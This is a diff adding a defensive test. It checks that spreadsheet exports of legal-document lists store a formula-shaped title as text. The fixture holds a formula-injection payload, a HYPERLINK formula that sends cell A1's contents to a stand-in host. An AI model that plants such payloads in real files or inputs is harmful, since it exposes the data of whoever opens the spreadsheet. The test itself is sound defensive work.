@@ -210,3 +210,35 @@ def test_the_review_report_holds_any_stored_text(officer_api: APIClient, dirty: 
     assert res.status_code == 200
     text = _docx_text(res.content) if fmt == "docx" else _xlsx_text(res.content)
     assert "Quyết định\ufffd" in text
+
+
+# --- exports write data, never formulas -----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Mở")'
+
+
+def _formula_cells(content: bytes) -> list[str]:
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    return [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+@pytest.fixture
+def formula_title(doc: Document) -> Document:
+    newer = f.document("21/2025/QĐ-UBND", issued="2025-02-10", effective="2025-03-01")
+    f.relate(newer, "replaces", doc, "2025-03-01")
+    Document.objects.filter(pk=doc.pk).update(title=FORMULA)
+    return doc
+
+
+def test_a_title_that_looks_like_a_formula_is_exported_as_text(
+    officer_api: APIClient, anon: APIClient, formula_title: Document
+) -> None:
+    """A title typed as a spreadsheet formula must not run in the Excel of whoever opens a list."""
+    catalogue = officer_api.get("/api/v1/exports/", {"format": "xlsx"})
+    systematization = anon.get("/api/v1/systematization/", {"from": 2021, "to": 2025, "format": "xlsx"})
+    created = officer_api.post("/api/v1/announcements/", {"year": 2025, "issuers": ["UBND-AG"]}, format="json")
+    yearly = officer_api.get(f"/api/v1/announcements/{created.data['id']}/export/", {"format": "xlsx"})
+    for answer in (catalogue, systematization, yearly):
+        assert answer.status_code == 200
+        assert FORMULA in _xlsx_text(answer.content)
+        assert _formula_cells(answer.content) == []
